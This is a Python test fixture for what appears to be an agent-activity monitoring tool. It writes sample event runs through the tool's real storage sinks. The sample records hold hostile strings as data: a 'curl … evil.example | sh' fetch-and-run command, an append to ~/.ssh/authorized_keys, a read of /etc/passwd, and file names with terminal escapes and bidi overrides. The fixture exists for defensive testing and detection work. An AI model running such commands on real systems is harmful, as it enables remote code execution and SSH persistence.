"""Build stored runs through the REAL storage code (JsonlSink, SqliteSink, encode_meta).

Used by the read-side tests; the records include hostile strings (ANSI escapes, newlines,
bidi overrides, undecodable bytes) so every command's escaping is exercised.
"""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

from logira.format.meta import RunMeta, encode_meta
from logira.model.record import (
    DetectionData,
    ExecData,
    FileData,
    LineageEntry,
    NetData,
    ProcData,
    Record,
)
from logira.sinks.jsonl import JsonlSink
from logira.sinks.sqlite import SqliteSink

S = 1_000_000_000
T0 = 1_767_366_245 * S  # 2026-01-02 15:04:05Z
HOSTILE = "/home/u/proj/evil\x1b[31mRED\x1b]0;pwn\x07\nname\u202etxt.sh"
BADBYTES = "/tmp/bad\udcff\udcfe.bin"  # undecodable bytes 0xff 0xfe (surrogateescape)


def rec(
    run_id: str, seq: int, t: float, type_: str, data, pid: int = 100, ppid: int = 99, summary: str = ""
) -> Record:
    return Record(run_id=run_id, seq=seq, ts=T0 + round(t * S), type=type_, pid=pid, ppid=ppid, uid=1000,
                  summary=summary or f"{type_} {seq}", data_json=data)  # fmt: skip


def sample_records(run_id: str) -> list[Record]:
    """A small realistic run: shell → curl, DNS, connects, file changes, two detections."""
    r = run_id
    lineage = [
        LineageEntry(
            pid=100,
            exe="/usr/bin/bash",
            argv=["bash", "-c", "echo k >> ~/.ssh/authorized_keys"],
            cwd="/home/u/proj",
        ),
        LineageEntry(pid=99, exe="/usr/bin/claude", argv=["claude", "--yolo"], cwd="/home/u/proj"),
    ]
    return [
        rec(
            r,
            1,
            0.1,
            "exec",
            ExecData(
                filename="/usr/bin/bash",
                argv=["bash", "-c", "curl -s http://evil.example/x | sh"],
                cwd="/home/u/proj",
                comm="bash",
            ),
            summary="exec bash -c curl -s http://evil.example/x | sh",
        ),
        rec(
            r,
            2,
            0.2,
            "proc",
            ProcData(op="fork", comm="bash", exe="/usr/bin/bash", child_pid=101),
            summary="fork 101",
        ),
        rec(
            r,
            3,
            0.3,
            "exec",
            ExecData(
                filename="/usr/bin/curl",
                argv=["curl", "-s", "http://evil.example/x"],
                cwd="/home/u/proj",
                comm="curl",
            ),
            pid=101,
            ppid=100,
            summary="exec curl -s http://evil.example/x",
        ),
        rec(
            r,
            4,
            0.4,
            "net",
            NetData(
                op="send",
                proto="udp",
                family="inet",
                dst_ip="10.0.0.53",
                dst_port=53,
                dns_qname="evil.example",
                exe="/usr/bin/curl",
            ),
            pid=101,
            ppid=100,
            summary="net send udp 10.0.0.53:53 dns=evil.example",
        ),
        rec(
            r,
            5,
            0.5,
            "net",
            NetData(
                op="connect",
                proto="tcp",
                family="inet",
                dst_ip="93.184.216.34",
                dst_port=443,
                exe="/usr/bin/curl",
            ),
            pid=101,
            ppid=100,
            summary="net connect tcp 93.184.216.34:443",
        ),
        rec(
            r,
            6,
            1.0,
            "file",
            FileData(op="create", path="/home/u/proj/out.txt", exe="/usr/bin/bash"),
            summary="file create /home/u/proj/out.txt",
        ),
        rec(
            r,
            7,
            1.5,
            "file",
            FileData(op="modify", path="/home/u/.ssh/authorized_keys", exe="/usr/bin/bash"),
            summary="file modify /home/u/.ssh/authorized_keys",
        ),
        rec(
            r,
            8,
            1.5,
            "detection",
            DetectionData(
                rule_id="R010",
                severity="high",
                message="ssh authorized_keys modified: /home/u/.ssh/authorized_keys",
                related_event_seq=7,
                title="SSH key persistence",
                lineage=lineage,
            ),
            summary="[high] R010: ssh authorized_keys modified: /home/u/.ssh/authorized_keys",
        ),
        rec(
            r,
            9,
            2.0,
            "file",
            FileData(op="create", path=HOSTILE, exe="/usr/bin/bash"),
            summary=f"file create {HOSTILE}",
        ),
        rec(
            r,
            10,
            2.5,
            "file",
            FileData(op="create", path=BADBYTES, exe="/usr/bin/curl"),
            pid=101,
            ppid=100,
            summary=f"file create {BADBYTES}",
        ),
        rec(
            r,
            11,
            2.5,
            "detection",
            DetectionData(
                rule_id="R020",
                severity="medium",
                message=f"download then write to tmp: {BADBYTES}",
                related_event_seq=10,
                title="Temp dropper",
                steps=[3, 10],
            ),
            pid=101,
            ppid=100,
            summary=f"[medium] R020: download then write to tmp: {BADBYTES}",
        ),
        rec(
            r,
            12,
            3.0,
            "file",
            FileData(op="rename", path="/home/u/proj/a.txt", path2="/home/u/proj/b.txt", exe="/usr/bin/bash"),
            summary="file rename /home/u/proj/a.txt -> /home/u/proj/b.txt",
        ),
        rec(
            r,
            13,
            3.2,
            "exec",
            ExecData(filename="/home/u/proj/nope", argv=["./nope"], errno=2),
            summary="exec-failed /home/u/proj/nope errno=2",
        ),
        rec(
            r,
            14,
            3.5,
            "net",
            NetData(
                op="connect",
                proto="tcp",
                family="inet6",
                dst_ip="2001:db8::1",
                dst_port=443,
                exe="/usr/bin/curl",
            ),
            pid=101,
            ppid=100,
            summary="net connect tcp 2001:db8::1:443",
        ),
        rec(
            r,
            15,
            4.0,
            "file",
            FileData(op="delete", path="/home/u/proj/old 100%_x.txt", exe="/usr/bin/bash"),
            summary="file delete /home/u/proj/old 100%_x.txt",
        ),
        rec(
            r,
            16,
            4.1,
            "file",
            FileData(op="read", path="/etc/passwd", exe="/usr/bin/bash"),
            summary="file read /etc/passwd",
        ),
        rec(
            r,
            17,
            4.5,
            "proc",
            ProcData(op="exit", comm="curl", exe="/usr/bin/curl", exit_code=0),
            pid=101,
            ppid=100,
            summary="exit code=0",
        ),
    ]


def write_run(
    home: Path,
    run_id: str,
    records: list[Record],
    *,
    start_ts: int = T0,
    end: float | None = 5.0,
    status: str = "complete",
    sqlite: bool = True,
    **meta_kw,
) -> Path:
    """Create <home>/runs/<run_id> with events.jsonl, index.sqlite and meta.json via the real sinks."""
    run_dir = home / "runs" / run_id
    run_dir.mkdir(parents=True, mode=0o700)
    counts: dict[str, int] = {}
    dets: dict[str, int] = {}
    for r in records:
        counts[r.type] = counts.get(r.type, 0) + 1
        if r.type == "detection":
            dets[r.data_json.severity] = dets.get(r.data_json.severity, 0) + 1
    meta = RunMeta(
        run_id=run_id, tool=run_id.split("-", 2)[-1], command=" ".join(meta_kw.pop("argv", ["claude", "--yolo"])),
        command_argv=["claude", "--yolo"], cwd=meta_kw.pop("cwd", "/home/u/proj"), uid=1000, gid=1000, user="u", host="box",
        start_ts=start_ts, end_ts=None if end is None else start_ts + int(end * S), status=status,
        complete=status == "complete", exit_code=None if end is None else 0, counts=counts, detections=dets,
        suspicious_count=sum(dets.values()), event_count=len(records), **meta_kw,
    )  # fmt: skip
    fd = os.open(run_dir / "events.jsonl", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    sink = JsonlSink(fd, run_id)
    sink.write(records)
    sink.close()
    if sqlite:
        asyncio.run(_write_sqlite(str(run_dir / "index.sqlite"), meta, records))
    (run_dir / "meta.json").write_bytes(encode_meta(meta))
    return run_dir


async def _write_sqlite(path: str, meta: RunMeta, records: list[Record]) -> None:
    sink = await SqliteSink.create(path, meta)
    await sink.write(records)
    await sink.update_run(meta)
    await sink.close()
